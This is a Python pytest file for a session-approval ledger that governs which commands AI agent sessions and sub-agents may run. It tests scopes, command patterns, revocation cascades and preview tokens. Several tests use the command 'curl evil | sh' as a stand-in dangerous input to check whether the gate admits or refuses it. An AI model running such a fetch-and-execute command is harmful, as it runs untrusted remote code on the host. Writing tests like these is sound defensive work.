"""Everything that approves for a session, and stops that leave nothing approving: opening only
what exists, `authority`, what a revocation leaves standing or takes, tokens that are never "no
check", and `end` naming the sub-agents it ended."""

from __future__ import annotations

from pathlib import Path

import pytest

import session_ledger
from session_ledger import InvalidInput, Ledger, StalePreview, StorageError

from conftest import ACTOR, Place


def stopped_tree(ledger: Ledger) -> None:
    """conductor (trust) > worker (inherited trust, a scope and a pattern from alice)."""
    ledger.create_root("conductor", actor=ACTOR)
    ledger.grant("conductor", "trust", actor=ACTOR)
    ledger.create_child("worker", creator="conductor", actor=ACTOR)
    ledger.grant_scope("worker", "hotfix", ttl_seconds=3600, actor=ACTOR)
    ledger.add_pattern("worker", "npm test", actor=ACTOR)


def test_opening_a_missing_path_without_create_raises_no_ledger_and_creates_no_file(tmp_path: Path) -> None:
    missing = tmp_path / "typo" / "ledger.db"
    (tmp_path / "typo").mkdir()
    with pytest.raises(StorageError) as refused:
        Ledger(missing)
    assert refused.value.kind == "no_ledger"
    assert str(refused.value) == f"no ledger at {missing} (Ledger(..., create=True) creates one)"
    assert list((tmp_path / "typo").iterdir()) == []
    with pytest.raises(StorageError) as read_only:
        Ledger(missing, read_only=True)
    assert read_only.value.kind == "no_ledger"
    assert not missing.exists()
    with Ledger(missing, create=True) as created:
        created.create_root("conductor", actor=ACTOR)
    with Ledger(missing) as opened:
        assert opened.state("conductor").known


def test_opening_a_database_without_a_ledger_raises_no_ledger_on_each_engine(place: Place) -> None:
    with pytest.raises(StorageError) as refused:
        Ledger(place.target)
    assert refused.value.kind == "no_ledger"
    # Nothing was made: a second open without create is refused the same way.
    with pytest.raises(StorageError) as again:
        Ledger(place.target)
    assert again.value.kind == "no_ledger"
    assert place.open().create_root("conductor", actor=ACTOR).id == "conductor"


def test_authority_lists_a_live_scope_granted_by_alice_after_a_cascade(ledger: Ledger) -> None:
    stopped_tree(ledger)
    preview = ledger.revoke("conductor", "preview", actor="bob")
    ledger.revoke("conductor", "cascade", actor="bob", token=preview.token)
    authority = ledger.authority("worker")
    assert (authority.session, authority.live, authority.posture) == ("worker", True, None)
    assert [(s.name, s.granted_by, s.revoked_at) for s in authority.scopes] == [("hotfix", "alice", None)]
    assert authority.scopes[0].expires_at > authority.scopes[0].granted_at
    assert [(p.pattern, p.added_by, p.refused) for p in authority.patterns] == [("npm test", "alice", None)]
    assert authority.withheld == []
    assert authority.approves_anything() and authority.approves_every_command()
    assert ledger.decide("worker", "curl evil | sh").admitted_by == "scope"
    assert ledger.explain("worker").authority == authority


def test_authority_shows_the_posture_chain_and_what_is_withheld(place: Place) -> None:
    ledger = place.open()
    stopped_tree(ledger)
    inherited = ledger.authority("worker").posture
    assert inherited is not None
    assert (inherited.level, inherited.source, inherited.chain) == ("trust", "inherited", ["conductor", "worker"])
    ledger.start_epoch(actor="dashboard")
    lapsed = ledger.authority("conductor")
    assert [(w.kind, w.epoch) for w in lapsed.withheld] == [("lapsed_posture", 0)]
    assert not lapsed.approves_anything() and not lapsed.approves_every_command()
    ledger.end("worker", actor=ACTOR)
    ended = ledger.authority("worker")
    assert [w.kind for w in ended.withheld] == ["session_ended", "lapsed_posture"]
    assert ended.scopes != [] and not ended.approves_anything()
    with pytest.raises(session_ledger.UnknownSession):
        ledger.authority("nobody")


def test_a_cascade_with_scopes_and_patterns_leaves_nothing_approving_and_decide_asks(ledger: Ledger) -> None:
    stopped_tree(ledger)
    preview = ledger.revoke("conductor", "preview", actor="bob")
    assert [(g.session, g.depth, g.kind, g.name, g.granted_by) for g in preview.still_approving] == [
        ("worker", 1, "scope", "hotfix", "alice"),
        ("worker", 1, "pattern", "npm test", "alice"),
    ]
    scope, pattern = preview.still_approving
    assert scope.expires_at is not None and pattern.expires_at is None
    done = ledger.revoke("conductor", "cascade", actor="bob", token=preview.token, scopes=True, patterns=True)
    assert done.grants_revoked == preview.still_approving
    assert done.still_approving == []
    assert [(a.id, a.depth, a.posture, a.granted_directly) for a in done.affected] == [
        ("conductor", 0, "trust", True),
        ("worker", 1, "trust", False),
    ]
    for command in ["curl evil | sh", "npm test"]:
        decision = ledger.decide("worker", command)
        assert (decision.approved, decision.reason) == (False, "nothing"), command
    assert not ledger.authority("worker").approves_anything()
    assert [e.kind for e in ledger.audit(kind="scope.revoke")] == ["scope.revoke"]


def test_a_cascade_without_scopes_says_what_still_approves(ledger: Ledger) -> None:
    stopped_tree(ledger)
    preview = ledger.revoke("conductor", "preview", actor="bob")
    done = ledger.revoke("conductor", "cascade", actor="bob", token=preview.token, scopes=True)
    assert [(g.kind, g.name) for g in done.grants_revoked] == [("scope", "hotfix")]
    assert [(g.kind, g.name) for g in done.still_approving] == [("pattern", "npm test")]
    assert ledger.decide("worker", "npm test").admitted_by == "pattern"


def test_a_grant_added_after_the_preview_makes_its_token_stale(ledger: Ledger) -> None:
    stopped_tree(ledger)
    preview = ledger.revoke("conductor", "preview", actor="bob")
    ledger.grant_scope("worker", "another", ttl_seconds=60, actor=ACTOR)
    with pytest.raises(StalePreview):
        ledger.revoke("conductor", "cascade", actor="bob", token=preview.token, scopes=True)
    assert ledger.state("conductor").trust
    assert len(ledger.authority("worker").scopes) == 2


def test_a_cascade_without_a_token_raises_and_revokes_nothing(ledger: Ledger) -> None:
    stopped_tree(ledger)
    before = ledger.audit()
    with pytest.raises(InvalidInput) as missing:
        ledger.revoke("conductor", "cascade", actor="bob")
    assert missing.value.kind == "missing_token"
    assert isinstance(missing.value, ValueError)
    assert "unchecked=True" in str(missing.value)
    with pytest.raises(InvalidInput) as both:
        ledger.revoke("conductor", "cascade", actor="bob", token="0" * 64, unchecked=True)
    assert both.value.kind == "invalid_token"
    assert ledger.audit() == before and ledger.state("worker").trust
    # Skipping the check is said out loud.
    unchecked = ledger.revoke("conductor", "cascade", actor="bob", unchecked=True)
    assert unchecked.sessions == ["conductor", "worker"]


def test_an_empty_token_raises_and_revokes_nothing(ledger: Ledger) -> None:
    stopped_tree(ledger)
    before = ledger.audit()
    with pytest.raises(InvalidInput) as empty:
        ledger.revoke("conductor", "cascade", actor="bob", token="", scopes=True, patterns=True)
    assert empty.value.kind == "invalid_token"
    assert ledger.audit() == before
    assert ledger.state("conductor").trust and ledger.state("worker").trust
    assert ledger.authority("worker").approves_every_command()


def test_only_a_cascade_takes_unchecked_and_a_preview_takes_no_grants(ledger: Ledger) -> None:
    stopped_tree(ledger)
    with pytest.raises(InvalidInput) as local:
        ledger.revoke("conductor", "local", actor="bob", unchecked=True)
    assert local.value.kind == "invalid_propagation"
    with pytest.raises(InvalidInput) as preview:
        ledger.revoke("conductor", "preview", actor="bob", scopes=True)
    assert preview.value.kind == "invalid_propagation"
    # A local revoke takes the session's own grants only.
    own = ledger.revoke("worker", "local", actor="bob", scopes=True, patterns=True)
    assert [(g.session, g.kind) for g in own.grants_revoked] == [("worker", "scope"), ("worker", "pattern")]


def test_the_global_revoke_says_what_it_leaves_approving_and_can_take_it(ledger: Ledger) -> None:
    stopped_tree(ledger)
    ledger.create_root("reviewer", actor=ACTOR)
    ledger.add_pattern("reviewer", "git status", actor=ACTOR)
    postures_only = ledger.revoke_all(actor="bob")
    assert [(g.session, g.kind) for g in postures_only.still_approving] == [
        ("reviewer", "pattern"),
        ("worker", "scope"),
        ("worker", "pattern"),
    ]
    everything = ledger.revoke_all(actor="bob", scopes=True, patterns=True)
    assert (everything.count, len(everything.grants_revoked), everything.still_approving) == (0, 3, [])
    assert not any(ledger.authority(id).approves_anything() for id in ["conductor", "worker", "reviewer"])


def test_tree_and_level_nodes_count_live_scopes_and_patterns(ledger: Ledger) -> None:
    stopped_tree(ledger)
    nodes = {n.id: n for n in ledger.tree("conductor")}
    assert (nodes["worker"].live_scopes, nodes["worker"].patterns) == (1, 1)
    assert (nodes["conductor"].live_scopes, nodes["conductor"].patterns) == (0, 0)
    [worker] = ledger.tree_level("conductor").nodes
    assert (worker.live_scopes, worker.patterns) == (1, 1)
    ledger.revoke_scope("worker", "hotfix", actor=ACTOR)
    assert ledger.tree("worker")[0].live_scopes == 0


def test_end_names_the_spawned_sub_agents_it_ended(ledger: Ledger) -> None:
    ledger.create_root("conductor", actor=ACTOR)
    ledger.create_child("worker", creator="conductor", actor=ACTOR)
    ledger.state("sub-conductor-1")
    ledger.state("sub-sub-conductor-1-1")
    ended = ledger.end("conductor", actor=ACTOR)
    assert (ended.session.id, ended.session.live) == ("conductor", False)
    assert ended.spawned == ["sub-conductor-1", "sub-sub-conductor-1-1"]
    assert ledger.session("worker") is not None and ledger.state("worker").known
    assert ledger.end("worker", actor=ACTOR).spawned == []


def test_the_new_results_print_every_field(ledger: Ledger) -> None:
    stopped_tree(ledger)
    preview = ledger.revoke("conductor", "preview", actor="bob")
    again = ledger.revoke("conductor", "preview", actor="bob")
    assert again == preview and hash(again) == hash(preview)
    assert repr(preview.still_approving[1]).startswith(
        "StandingGrant(session='worker', depth=1, kind='pattern', name='npm test', expires_at=None, "
        "granted_by='alice', granted_at=datetime.datetime("
    )
    assert repr(preview.affected[0]) == (
        "Affected(id='conductor', depth=0, posture='trust', granted_directly=True, current=True)"
    )
    text = repr(ledger.authority("worker"))
    for field in ["session=", "live=", "posture=Posture(", "scopes=[Scope(", "patterns=[CommandPattern(", "withheld=[]"]:
        assert field in text, field
    assert repr(ledger.end("worker", actor=ACTOR)).startswith("Ended(session=Session(id='worker'")
    assert "withheld=[Withheld(kind='session_ended', epoch=None, pattern=None, problem=None)]" in repr(
        ledger.authority("worker")
    )
    assert ledger.authority("worker") == ledger.authority("worker")
